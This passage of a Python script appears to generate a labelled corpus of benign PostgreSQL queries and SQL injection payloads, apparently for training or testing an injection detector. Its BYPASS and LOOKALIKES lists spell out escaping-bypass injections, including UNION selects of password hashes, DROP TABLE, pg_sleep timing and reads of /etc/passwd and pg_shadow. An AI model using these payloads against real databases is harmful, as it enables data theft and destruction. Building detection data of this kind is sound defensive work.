        a, b = r.randint(0, 23), r.randint(0, 59)
        add("time", r.choice(["SELECT time '%02d:%02d' + interval '1 hour'" % (a, b), "SELECT '%02d:%02d:00'::time > '12:00'" % (a, b), "SELECT time '%02d:%02d' - time '00:01'" % (a, b),
                              "SELECT timetz '%02d:%02d+02'" % (a, b), "SELECT date_part('minute', time '%02d:%02d')" % (a, b)]))
    for _ in range(20):
        a, b = r.randint(1, 255), r.randint(1, 255)
        add("bit", r.choice(["SELECT %d::bit(8)" % a, "SELECT B'%s' | B'%s'" % (format(a, "08b"), format(b, "08b")), "SELECT B'%s' << %d" % (format(a, "08b"), b % 8),
                             "SELECT bit_count(B'%s')" % format(a, "b"), "SELECT length(B'%s')" % format(b, "b"), "SELECT ~ B'%s'" % format(a, "08b")]))
    for _ in range(20):
        a, b = r.randint(1, 1000), r.randint(1, 50)
        add("aggregates", r.choice(["SELECT sum(x) FROM generate_series(1, %d) x" % a, "SELECT count(*) FILTER (WHERE x %% %d = 0) FROM generate_series(1, %d) x" % (b, a),
                                    "SELECT max(x), min(x) FROM generate_series(%d, %d) x" % (b, a), "SELECT string_agg(x::text, ',') FROM generate_series(1, %d) x" % b,
                                    "SELECT every(x > %d) FROM generate_series(1, 10) x" % (b % 5), "SELECT mode() WITHIN GROUP (ORDER BY x %% %d) FROM generate_series(1, %d) x" % (b, a)]))
    for _ in range(20):
        w = rword(r, r.randint(2, 6))
        add("regex", r.choice(["SELECT '%s' ~ '^%s'" % (w, w[0]), "SELECT regexp_match('%s123', '([a-z]+)(\\d+)')" % w, "SELECT '%s' ~* '%s'" % (w.upper(), w),
                               "SELECT regexp_split_to_array('%s,%s', ',')" % (w, w[::-1]), "SELECT regexp_instr('%s', '%s')" % (w, w[-1]), "SELECT '%s' !~ 'z{3}'" % w]))
    for _ in range(15):
        a = r.randint(1, 999)
        add("money", r.choice(["SELECT '%d.%02d'::money" % (a, a % 100), "SELECT %d::money / 3" % a, "SELECT cash_words('%d'::money)" % a, "SELECT '%d'::money::numeric" % a]))
    return out


# ---------------------------------------------------------------- assembly
OBF_BASES = ["tautology", "tautology", "stacked", "union", "time_pg_sleep", "boolean_blind", "error_cast", "oob_file_program", "string_concat_subquery",
             "dollar_quote", "sqlmap", "sqlmap", "sqlmap"]
KIND_FAMILY = {"date": "input_formatted", "ts": "input_formatted", "interval": "input_formatted", "token": "input_formatted", "email": "input_url_email",
               "json": "input_json_text", "jkey": "input_plain"}
TRUNC_STYLES = [("dashdash", "--"), ("dashdash", "--"), ("dashdash_space", "-- "), ("dashdash_space", "-- "), ("dashdash_dash", "-- -"), ("dashdash_plus", "--+"),
                ("block_open", "/*"), ("semicolon_dashdash", ";--"), ("semicolon_space_dashdash", "; --"), ("dashdash_crlf", "--\r\n"),
                ("block_closed_then_dashdash", "/* x */--"), ("dashdash_word", None)]
BYPASS = [("addslashes_into_standard_string", "t20_ormar_login", "a", "sensei_ito' OR 1=1 -- ", addslashes),
          ("doubling_into_e_string", "t20_servicestack_umpire_note", "a", "\\', score_home = 13 -- ", double_quotes),
          ("backslash_quote_into_standard_string", "t20_redbean_ticket", "a", "x' UNION SELECT login, pass_hash, NULL, NULL FROM kite_students -- ", backslash_quotes),
          ("addslashes_into_standard_string", "t20_vbaado_piano_lookup", "a", "BL-1' AND pg_sleep(5) IS NOT NULL -- ", addslashes),
          ("backslash_quote_into_standard_string", "t20_medoo_customer_email", "a", "x') OR ('a'='a", backslash_quotes),
          ("doubling_into_e_string", "t20_servicestack_umpire_note", "a", "\\'; DROP TABLE boules_games; -- ", double_quotes)]
# attack-looking strings PostgreSQL does not read as quotes or escapes where they land (they stay data)
LOOKALIKES = [("admin’ OR ‘1’=‘1", "lookalike:curly_quotes"), ("x‛ OR 1=1 --", "lookalike:reversed_quote"), ("＇ UNION SELECT passwd FROM pg_shadow --", "lookalike:fullwidth_apostrophe"),
              ("%2527 OR 1=1--", "lookalike:double_url_encoded_quote"), ("&apos;; DROP TABLE yarns; --", "lookalike:html_apos_entity"),
              ("\\x27 OR pg_sleep(5) IS NULL --", "lookalike:hex_escape_text"), ("ʻ OR ʻaʻ=ʻa", "lookalike:okina"), ("´; SELECT pg_read_file('/etc/passwd'); --", "lookalike:acute_accent")]


def truncation_style(r):
    style, c = r.choice(TRUNC_STYLES)
    return style, c if c is not None else "--" + rword(r, r.randint(2, 5))


TRUNCATION = {"style": truncation_style, "origs": ["admin", "", "x", "1", "test"], "spaces": ["", " ", " ", "  ", "\t"]}


def numeric_value(r):
    return r.choice([str(r.randint(0, 99999)), str(r.randint(1, 100)), "%d.%02d" % (r.randint(0, 900), r.randint(0, 99)), str(r.randint(10 ** 5, 10 ** 8)),
                     "0", "-%d" % r.randint(1, 99), "%d.0" % r.randint(1, 50), "%de%d" % (r.randint(1, 9), r.randint(1, 4)), "0.%02d" % r.randint(1, 99)])


def numeric_refused(tpl, slot, val):
    """No sign, fraction, exponent or long number where only a small count, an offset or an id goes."""
    si = slot_info(tpl, slot)
    strict = si["in_limit"] or tpl[0] in ("t20_gopg_booking_insert", "t20_petapoco_mene_insert", "t20_jasync_fixture_result", "t20_ebean_frames")
    return strict and (val.startswith("-") or "." in val or "e" in val or len(val) > 6)


def formatted_value(r):
    return r.choice(["KITE-%04d" % r.randint(1, 9999), "TABLE %d" % r.randint(1, 14), "%d.%d mm" % (r.randint(2, 12), r.choice([0, 25, 5, 75])),
                     "pH %d.%d" % (r.randint(5, 6), r.randint(0, 9)), "%d:%02d.%03d" % (r.randint(0, 1), r.randint(0, 59), r.randint(0, 999)),
                     "%s %d" % (r.choice(["kyu", "dan"]), r.randint(1, 8)), "A4=%d Hz" % r.choice([440, 442, 435]), "SRT-%s-%02d" % (rword(r, 2, upper=True), r.randint(1, 99))])


def input_value(r, fam, groups):
    kinds = [(t, k) for t, k in groups.typed if KIND_FAMILY[kind(t, k)] == fam]
    if kinds and r.random() < 0.4:
        return typed_input(r, kinds, fam, typed_value)
    if fam == "input_numeric":
        return number_input(r, groups.numeric, [", ", ",", " , "], 99999, 6, numeric_value, numeric_refused)
    if fam == "input_identifier":
        return identifier_input(r, groups.identifier, CANON)
    return text_input(r, groups.string, fam, POOLS, SENTS, formatted_value, 0.3, ("input_plain", "input_unicode", "input_apostrophe_names", "input_sql_words"))


def main():
    corpus = SlotCorpus(random.Random(SEED), load_earlier(HERE, EARLIER), T, CLOSER, render, ref_skeletons, slot_info, dollar_safe(TAG, runs_into=True))
    corpus.attacks(SQLMAP, hand, OBF_BASES, obfuscate, TRUNCATION, BYPASS)
    corpus.payloads += LOOKALIKES * 12
    corpus.benign_rows(input_value, complex_gens(), regress_rows)
    corpus.write(HERE, "f20-%06d", "twentieth")


if __name__ == "__main__":
    main()
